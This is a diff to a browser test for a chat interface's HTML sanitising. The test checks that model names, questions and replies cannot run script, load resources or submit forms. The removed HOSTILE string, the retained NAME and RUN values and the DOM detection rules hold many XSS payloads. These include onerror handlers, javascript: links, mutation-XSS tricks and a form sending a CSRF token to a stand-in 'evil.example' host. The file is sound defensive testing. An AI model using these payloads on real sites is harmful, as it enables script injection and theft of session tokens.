@@ -1,6 +1,7 @@
 """Whatever a model, its name or a question holds: nothing of it runs, loads, submits, or styles the page."""
 
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 from playwright.sync_api import Dialog, Page, Request, expect
@@ -9,56 +10,21 @@ from tests.browser.chatting import UPSTREAM, answer, expect_state, play, reply, 
 from tests.servers import Site, site
 from tests.upstreams import RunningUpstream, ask
 
+FIXTURES = Path(__file__).parent.parent / "fixtures"
 NAME = "<img/src=x/onerror=window.ran='name'>"
 RUN = "window.ran='yes';alert(1)"
-HOSTILE = f"""
-<script>{RUN}</script><script src="https://evil.example/x.js"></script>
-
-<img src="https://evil.example/pixel.gif" onerror="{RUN}"> ![pixel](https://evil.example/track.gif "t")
-
-<svg/onload={RUN}><use href="https://evil.example/s.svg#x"/></svg><iframe srcdoc="<script>{RUN}</script>"></iframe>
-
-<style>body{{display:none}}@import "https://evil.example/x.css";</style><link rel=stylesheet href=//evil.example/y.css>
-
-[one](javascript:{RUN}) [two](JaVaScRiPt&#58;{RUN}) [three](data:text/html,<script>{RUN}</script>) [four](//evil.example/a)
-[five](vbscript:x) [six]( java&#10;script:{RUN} ) <javascript:{RUN}> [seven](https://evil.example/link)
-
-<a href="javascript:{RUN}" onclick="{RUN}" style="position:fixed;inset:0">over everything</a>
-<form action="https://evil.example/steal"><input name=csrfmiddlewaretoken autofocus onfocus="{RUN}"><button>Go</button></form>
-<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/"><object data=x></object>
-
-<div id=announcer hx-get="https://evil.example/hx" hx-trigger="load" data-hx-on:click="{RUN}">htmx</div>
-<chat-composer></chat-composer><streaming-reply data-state=thinking id=m-1></streaming-reply></div></section></article>
-
-| a | <b onmouseover={RUN}>b</b> |
-|---|---|
-| `<img src=x onerror={RUN}>` | <img src=x onerror={RUN}> |
-
-```html"><img src=x onerror={RUN}>
-</code></pre><script>{RUN}</script>
-```
-
-$\\href{{javascript:{RUN}}}{{x}}$ $\\text{{<script>{RUN}</script>}}$ $$\\url{{javascript:{RUN}}}$$
-
-<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>
-<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><template><script>{RUN}</script></template>
-
-- <details open ontoggle={RUN}>x</details>
-- <video src=https://evil.example/v onloadstart={RUN}></video>
-
-&lt;script&gt;{RUN}&lt;/script&gt; \u202eevil\u202c \u0000 <!--><script>{RUN}</script>-->
-
-The end of it.
-"""
+HOSTILE = (FIXTURES / "hostile.md").read_text().replace("{RUN}", RUN).replace("{NUL}", "\0")
 INSIDE = """(reply) => {
     const shown = [...reply.querySelectorAll("[data-position] *")];
-    const bad = "script style link meta base iframe object embed form input button[type=submit] video audio template";
-    const found = shown.filter((element) => element.matches(bad.replaceAll(" ", ",")));
+    const bad = "script,style,link,meta,base,iframe,object,embed,form,input,[type=submit],video,template";
+    const found = shown.filter((element) => element.matches(bad));
+    const names = /^(on|hx-|data-hx|style|srcdoc|formaction|id)/;
+    const values = /^\\s*(javascript|data|vbscript):/i;
     const attributes = shown.flatMap((element) => [...element.attributes])
-        .filter(({ name, value }) => /^(on|hx-|data-hx|style|srcdoc|formaction|id)/.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value));
-    const loading = shown.filter((element) => element.matches("img[src], image[href], use"));
+        .filter(({ name, value }) => names.test(name) || values.test(value));
+    const loading = shown.filter((element) => element.matches("audio, img[src], image[href], use"));
     return [...found, ...loading].map((element) => element.outerHTML)
-        .concat(attributes.map(({ name, value, ownerElement }) => `${name}=${value} on ${ownerElement.localName}`));
+        .concat(attributes.map(({ name, value }) => `${name}=${value}`));
 }"""
 LINKS = "(reply) => [...reply.querySelectorAll('[data-position] a')].map((a) => [a.protocol, a.rel])"
 
